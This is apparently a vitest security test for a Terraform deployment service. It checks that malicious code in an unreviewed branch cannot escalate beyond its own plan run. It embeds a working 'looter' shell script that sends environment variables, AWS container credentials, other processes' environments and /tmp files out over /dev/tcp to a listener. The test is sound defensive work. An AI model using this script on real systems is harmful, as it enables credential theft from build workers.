/**
 * Code of a branch that nobody has reviewed, let in by the policy, planned by real workers: it takes what it finds in there,
 * and tries what it is good for while its run goes on. What such code could do with the token of its run is in
 * `stolen.test.ts`.
 *
 * | attack | what stops it |
 * |---|---|
 * | read the worker's memory, environment, files | in a task another user, in a function a program that cannot be read |
 * | find the deploy key | it is gone, and the session that reads it never was anywhere but in the worker |
 * | use the credentials of its run on other states, secrets, roles, doors | the session policy, the boundary, trusts |
 * | get those of an apply, or its secrets | the door gives them to applies alone |
 * | go on with them once the run is over | nothing for as long as they last, which is an hour at most |
 */
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Run } from '../../../policies/contract/run.ts';
import type { Session } from '../../../policies/contract/worker.ts';
import type { Finished } from '../../support/command.ts';
import { lockFile } from '../../support/providers.ts';
import { bareRepository } from '../../support/repository.ts';
import { requires } from '../../support/requirements.ts';
import { temporaryDirectory } from '../../support/temporary-directory.ts';
import { external } from '../attacks/looter.ts';
import { startThief, type Thief } from '../attacks/thief.ts';
import { type Account, applyRole, installInAccount, planRole, roleOf } from './account.ts';
import { containers, mirrorInside } from './container.ts';
import { holderOf } from './holder.ts';
import { knockAs, knockWith } from './knock.ts';

/** Tells all that it finds, and waits for a word before the plan may go on. */
const looter = (name: string, port: number): string => `exec 3<>/dev/tcp/127.0.0.1/${port}
printf '%s\\n' ${name} "$(id -u)" >&3
ask() {
  address=\${1#http://}
  host=\${address%%/*}
  exec 4<>"/dev/tcp/\${host%:*}/\${host#*:}"
  printf 'GET /%s HTTP/1.1\\r\\nhost: %s\\r\\nauthorization: %s\\r\\nconnection: close\\r\\n\\r\\n' "\${address#*/}" "$host" "$2" >&4
  cat <&4
  exec 4>&-
  echo
}
{
  env
  echo; echo without; ask "$AWS_CONTAINER_CREDENTIALS_FULL_URI" guessed
  echo; echo with; ask "$AWS_CONTAINER_CREDENTIALS_FULL_URI" "$AWS_CONTAINER_AUTHORIZATION_TOKEN"
  echo; echo others
  for process in /proc/[0-9]*; do
    cat "$process/environ" "$process/cmdline" | tr '\\0' '\\n'
    (exec 5<"$process/mem") && echo "open: $(tr '\\0' ' ' <"$process/cmdline")"
    ls "$process/fd" >/dev/null && ls -l "$process/fd"
  done
  find /tmp -type f -size -64k -exec cat {} +
  find /tmp -type s
  touch /opt/x
  echo "written: $?"
  echo 'that is all'
} >&3 2>/dev/null
read -r -t 150 _ <&3
echo '{}'
`;

const stack = (name: string, port: number) => ({
  [`prod/${name}/main.tf`]: `terraform {\n  backend "s3" {}\n}\n${external}`,
  [`prod/${name}/loot.sh`]: looter(name, port),
  [`prod/${name}/.terraform.lock.hcl`]: lockFile('external'),
});
const rules = [
  { name: 'plan', allow: ['plan'], refs: ['refs/heads/**'], paths: ['prod/**'], identity: { project_id: 20 } },
  { name: 'apply', allow: ['apply'], refs: ['refs/heads/main'], paths: ['prod/**'], identity: { project_id: 20 } },
];
const secrets = { 'for-plans': 'canary-of-plans', 'for-applies': 'canary-of-applies', 'of-others': 'canary-of-others' };
const inJson = (text: string) => JSON.stringify({ token: text });

const parts = ['aws', 'aws provider', 'sshd', 'terraform', 'providers', 'sandbox', 'root'] as const;
describe.skipIf(requires(...parts))('planned code', { timeout: 240_000 }, () => {
  let thief: Thief;
  let account: Account;
  beforeAll(async () => {
    thief = await startThief();
    const repository = bareRepository(join(temporaryDirectory('repo'), 'infra-live.git'), { 'README.md': 'infra' });
    const files = { ...stack('fargate', thief.port), ...stack('lambda', thief.port) };
    repository.commit('feature', files, { from: 'main' });
    const started = containers();
    const settings = (worker: string) => ({
      paths: [`prod/${worker}`],
      worker,
      gate: { allow: ['external-data'] },
      providers: { mirror: mirrorInside },
    });
    account = await installInAccount({
      repository: repository.dir,
      rules,
      stacks: [settings('fargate'), settings('lambda')],
      runAs: {
        plan: { env_secrets: { DNS_TOKEN: { secret: 'secret:for-plans', key: 'token' } } },
        apply: { env_secrets: { DNS_TOKEN: { secret: 'secret:for-applies', key: 'token' } } },
      },
      secrets: Object.fromEntries(Object.entries(secrets).map(([name, text]) => [name, inJson(text)])),
      worker: kind => started(kind),
    });
  }, 240_000);
  afterAll(async () => {
    await account?.stop();
    await thief?.stop();
  });

  describe.each([
    ['fargate', '10001', 'worker-task-plan'],
    ['lambda', '993', 'worker-lambda-plan'],
  ] as const)('in a worker of %s', (name, uid, workerRole) => {
    let loot: string;
    let session: Session;
    let planned: Promise<Finished>;
    let id: string;

    beforeAll(async () => {
      const env = { INFRA_DEPLOYER_ID_TOKEN: account.issuer.token({ job_id: name === 'fargate' ? '8001' : '8002' }) };
      const args = ['--command', 'plan', '--path', `prod/${name}`, '--ref', 'feature', '--json'];
      planned = account.cli(args, env, { timeoutMs: 230_000 });
      const told = async (): Promise<void> => {
        while (!thief.loot(name).includes('that is all')) await sleep(100);
      };
      const early = planned.then(({ stdout, stderr }) => {
        throw new Error(`nobody came: ${stdout}${stderr}`);
      });
      await Promise.race([told(), early]);
      loot = thief.loot(name);
      session = sessionIn(loot.split('\nwith\n')[1] ?? '');
      id = /^INFRA_DEPLOYER_RUN=(r_\w+)$/m.exec(loot)?.[1] ?? '';
    }, 200_000);

    test('it is not who may look into the worker, and finds the credentials of its own run alone', async () => {
      expect(loot.split('\n')[0]).toBe(uid);
      expect(loot).toContain(`DNS_TOKEN=${secrets['for-plans']}`);
      const others = [secrets['for-applies'], secrets['of-others'], ...account.deployKey.split('\n').slice(1, -2)];
      for (const secret of others.flatMap(forms)) expect(loot).not.toContain(secret);
      expect(loot).not.toMatch(/INFRA_DEPLOYER_(TICKET|DOOR|TOOL_UID)=|AWS_SESSION_TOKEN=|AWS_LAMBDA_RUNTIME_API=/);
      expect(loot).not.toMatch(/ECS_CONTAINER_METADATA|\/v2\/credentials\/|PRIVATE KEY|written: 0/);
      expect(loot).toMatch(/^open: bash/m);
      expect(loot).not.toMatch(/^open: .*worker\.js/m);
      // A token of a run is its id and 256 bits.
      expect(loot).not.toMatch(/r_[a-z2-7]{26}\.[\w-]{43}/);
      expect([...new Set(loot.match(/ASIA[0-9A-F]{16}/g))]).toEqual([session.accessKeyId]);
      expect(sessionIn(loot.split('\nwithout\n')[1]?.split('\nwith\n')[0] ?? '').accessKeyId).toBe('');
    });

    test('these are good for its own state, to read, and for nothing else', async () => {
      const holder = holderOf(account, session);
      expect(await holder.identity()).toBe(`arn:aws:sts::222222222222:assumed-role/tf-plan/${id}`);
      expect(await holder.read(`prod/${name}`)).toBe('NoSuchKey');
      expect(await holder.read('prod/other')).toBe('AccessDenied');
      for (const path of [`prod/${name}`, 'prod/other']) expect(await holder.write(path)).toBe('AccessDenied');
      for (const role of [applyRole, planRole, roleOf(account.rendered, 'run').arn])
        expect(await holder.become(role)).toBe('AccessDenied');
      for (const secret of ['deploy-key', ...Object.keys(secrets)])
        expect(await holder.secret(`infra-deployer/${secret}`)).toBe('AccessDeniedException');
      for (const door of ['deploy', 'worker', 'audit', 'keeper', 'worker-plan', 'worker-apply'] as const)
        expect(await knockWith(account, session).ask(door, 'heartbeat', {})).toMatchObject(byAws);
    });

    test('the role of the worker itself, were it found, opens a door that answers nobody', async () => {
      const knock = knockAs(account, workerRole);
      const { body } = await knock.ask('worker', 'claim', { run: id, ticket: 'guessed' });
      expect(body).toMatchObject({ error: { code: 'E_UNAUTHENTICATED' } });
      for (const operation of ['heartbeat', 'credentials', 'errored-state'])
        for (const token of [id, `${id}.`, session.sessionToken])
          expect(await knock.ask('worker', operation, {}, { token })).toMatchObject({ status: 401 });
      expect(await knock.ask('deploy', 'decide', {})).toMatchObject(byAws);
    });

    test('its plan ends as a plan of its branch, and what it had is over within the hour', async () => {
      thief.tell(name, 'go on');
      const { status, stdout, stderr } = await planned;
      expect({ status, stderr }).toMatchObject({ status: 0 });
      const { run } = JSON.parse(stdout) as { run: Run };
      expect(run).toMatchObject({ id, state: 'succeeded', ref: 'refs/heads/feature', worker: name });
      expect(run).not.toHaveProperty('planId');
      for (const secret of [...Object.values(secrets), session.secretAccessKey, session.sessionToken].flatMap(forms))
        expect(`${stdout}${stderr}`).not.toContain(secret);
      const endpoint = /^AWS_CONTAINER_CREDENTIALS_FULL_URI=(.*)$/m.exec(loot)?.[1] ?? '';
      await expect(fetch(endpoint)).rejects.toThrow('fetch failed');
      expect(Date.parse(session.expiresAt) - Date.now()).toBeLessThan(3_600_000);
      expect(await holderOf(account, session).read(`prod/${name}`)).toBe('NoSuchKey');
    });
  });
});

const byAws = { code: 'AccessDeniedException' };

const forms = (secret: string): string[] => [
  secret,
  [...secret].reverse().join(''),
  Buffer.from(secret).toString('hex'),
  Buffer.from(secret).toString('base64').slice(0, -4),
];

/** As SDKs read it from the endpoint for containers. */
function sessionIn(answer: string): Session {
  const of = (name: string): string => new RegExp(`"${name}":"([^"]+)"`).exec(answer)?.[1] ?? '';
  return {
    accessKeyId: of('AccessKeyId'),
    secretAccessKey: of('SecretAccessKey'),
    sessionToken: of('Token'),
    expiresAt: of('Expiration'),
  };
}
